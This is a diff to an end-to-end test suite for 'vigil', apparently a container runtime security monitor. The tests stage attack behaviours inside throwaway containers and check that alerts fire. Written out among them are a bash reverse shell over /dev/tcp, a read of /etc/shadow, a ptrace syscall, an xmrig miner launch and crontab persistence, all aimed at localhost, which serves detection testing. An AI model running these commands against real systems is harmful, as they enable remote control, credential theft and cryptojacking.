@@ -12,6 +12,7 @@ import { join } from 'node:path';
 import { randomBytes } from 'node:crypto';
 import { spawnSync } from 'node:child_process';
 import { FakeContainer, Watch, skipReason, REPO } from './harness.js';
+import { e2eType } from '../../helpers/e2e-coverage.js';
 
 const skip = skipReason();
 const SETTLE_MS = 1500;
@@ -106,7 +107,7 @@ describe('vigil runtime watch on real kernel events', { skip, timeout: 300_000 }
     await twin.run('cat /etc/hostname > /dev/null');
     const c = box();
     await c.run('cat /etc/shadow > /dev/null');
-    const a = await w.waitFor((x) => x.container?.id === c.id && x.type === 'user/password-theft');
+    const a = await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('user/password-theft', 'kernel event'));
     assert.equal(a.process?.name, 'cat');
     assert.match(a.container!.id, /^[0-9a-f]{64}$/);
     await silent(twin);
@@ -117,7 +118,7 @@ describe('vigil runtime watch on real kernel events', { skip, timeout: 300_000 }
     await twin.run(`perl -e 'syscall(39)'`);
     const c = box();
     await c.run(`sleep 5 & perl -e 'syscall(101, 16, $ARGV[0], 0, 0)' $!; kill -9 $! 2>/dev/null; true`);
-    await w.waitFor((x) => x.container?.id === c.id && x.type === 'system/high-risk-syscall' && x.process?.name === 'perl');
+    await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('system/high-risk-syscall', 'kernel event') && x.process?.name === 'perl');
     await silent(twin);
   });
 
@@ -126,7 +127,7 @@ describe('vigil runtime watch on real kernel events', { skip, timeout: 300_000 }
     await twin.run(`perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("127.0.0.1:${port}") or die; print $s "hi\\n"; close $s'`);
     const c = box();
     const running = c.run(`bash -c 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1'`, { timeoutMs: 15_000 });
-    const a = await w.waitFor((x) => x.container?.id === c.id && x.type === 'system/reverse-shell');
+    const a = await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('system/reverse-shell', 'kernel event'));
     assert.equal(a.container!.id, c.id);
     // Let the shell go: the listener tells it to exit.
     for (const s of sockets) if (!s.destroyed) s.end('exit\n');
@@ -143,8 +144,25 @@ describe('vigil runtime watch on real kernel events', { skip, timeout: 300_000 }
     const c = box();
     await c.run(`${bindir}/xmrig -o stratum+tcp://127.0.0.1:3333 -u 4A1x -p x`);
     // The shell that runs it has the same arguments on its command line: look for the binary itself.
-    const a = await w.waitFor((x) => x.container?.id === c.id && x.type === 'container/malicious-program' && x.process?.name === 'xmrig');
+    const a = await w.waitFor(
+      (x) => x.container?.id === c.id && x.type === e2eType('container/malicious-program', 'kernel event') && x.process?.name === 'xmrig',
+    );
     assert.equal(a.process?.exepath, join(bindir, 'xmrig'));
+    await silent(twin);
+  });
+
+  it('drop and execute: a binary written in the container and run raises container/malicious-program; a compiled one and an old one are silent', async () => {
+    copyFileSync('/usr/bin/true', join(bindir, 'prebuilt'));
+    spawnSync('chmod', ['755', join(bindir, 'prebuilt')]);
+    const twin = box();
+    // An executable that was there before (created outside the container), and one the compiler links in the container.
+    await twin.run(`${bindir}/prebuilt && printf 'int main(void){return 0;}' > ${bindir}/m.c && gcc -o ${bindir}/built ${bindir}/m.c && ${bindir}/built`);
+    const c = box();
+    await c.run(`cp /usr/bin/true ${bindir}/dropped && chmod +x ${bindir}/dropped && ${bindir}/dropped`);
+    const a = await w.waitFor((x) => x.container?.id === c.id && x.rule === 'Drop and execute new binary in container');
+    assert.equal(a.type, 'container/malicious-program');
+    assert.equal(a.process?.exepath, join(bindir, 'dropped'));
+    assert.match(a.message, /written by cp/);
     await silent(twin);
   });
 
@@ -153,7 +171,7 @@ describe('vigil runtime watch on real kernel events', { skip, timeout: 300_000 }
     await twin.run(`echo '* * * * * root true' > ${dir}/other/crontab`);
     const c = box();
     await c.run(`echo '* * * * * root true' > ${cronFile}`);
-    await w.waitFor((x) => x.container?.id === c.id && x.type === 'command/scheduled-task');
+    await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('command/scheduled-task', 'kernel event'));
     await silent(twin);
   });
 
@@ -172,27 +190,18 @@ describe('vigil runtime watch on real kernel events', { skip, timeout: 300_000 }
   it('writing to a protected directory: container/sensitive-file-access; writing next to it is silent', async () => {
     await cProtTwin.run(`echo x > ${dir}/other/f`);
     await cProt.run(`echo x > ${dir}/protected/f`);
-    const a = await w.waitFor((x) => x.container?.id === cProt.id && x.type === 'container/sensitive-file-access');
+    const a = await w.waitFor((x) => x.container?.id === cProt.id && x.type === e2eType('container/sensitive-file-access', 'kernel event'));
     assert.match(a.message, /protected\/f/);
     assert.equal(a.action?.kind, 'alert');
-    await new Promise((r) => setTimeout(r, 300));
-    // Writing next to the protected directory is no file-protection violation. (Known issue, open: a policy
-    // decision is at times attributed to another event's alert type, seen once as a stray
-    // 'system/reverse-shell (policy:protect)' on this twin; the closing note of this stop describes it.)
-    assert.deepEqual(
-      w
-        .of(cProtTwin.id)
-        .filter((x) => x.type === 'container/sensitive-file-access')
-        .map((x) => x.message),
-      [],
-      'the benign twin raises no file-protection alert',
-    );
+    // Writing next to the protected directory raises nothing, not even a policy's reverse-shell verdict on the
+    // shell restoring its stdout (a unix socketpair) with dup2 (src/node/runtime/pipeline.test.ts reproduces that).
+    await silent(cProtTwin);
   });
 
   it('a process outside the whitelist: container/abnormal-process; whitelisted programs are silent', async () => {
     await cWlTwin.run('/usr/bin/true');
     await cWl.run('/usr/bin/true; /usr/bin/id > /dev/null');
-    const a = await w.waitFor((x) => x.container?.id === cWl.id && x.type === 'container/abnormal-process');
+    const a = await w.waitFor((x) => x.container?.id === cWl.id && x.type === e2eType('container/abnormal-process', 'kernel event'));
     assert.equal(a.process?.exepath, '/usr/bin/id');
     await silent(cWlTwin);
   });
@@ -227,7 +236,7 @@ describe('vigil runtime watch on real kernel events', { skip, timeout: 300_000 }
       await twin.run(connect('127.0.0.1', port));
       const c = box();
       await c.run(connect('127.0.0.2', badPort));
-      const a = await w.waitFor((x) => x.container?.id === c.id && x.type === 'network/abnormal-outbound');
+      const a = await w.waitFor((x) => x.container?.id === c.id && x.type === e2eType('network/abnormal-outbound', 'kernel event'));
       assert.match(a.message, /127\.0\.0\.2/);
       await silent(twin);
     } finally {
@@ -240,7 +249,7 @@ describe('vigil runtime watch on real kernel events', { skip, timeout: 300_000 }
     for (let i = 0; i < 12; i++)
       lines.push(`Nov 28 17:00:${String(i).padStart(2, '0')} node1 sshd[4242]: Failed password for invalid user admin from 203.0.113.9 port ${40000 + i} ssh2`);
     writeFileSync(join(dir, 'auth.log'), `${lines.join('\n')}\n`);
-    await w.waitFor((x) => x.type === 'user/brute-force', 10_000);
+    await w.waitFor((x) => x.type === e2eType('user/brute-force', 'auth log'), 10_000);
   });
 
   it('no alert names a twin or the harness: every container alert carries a full 64-hex id', async () => {
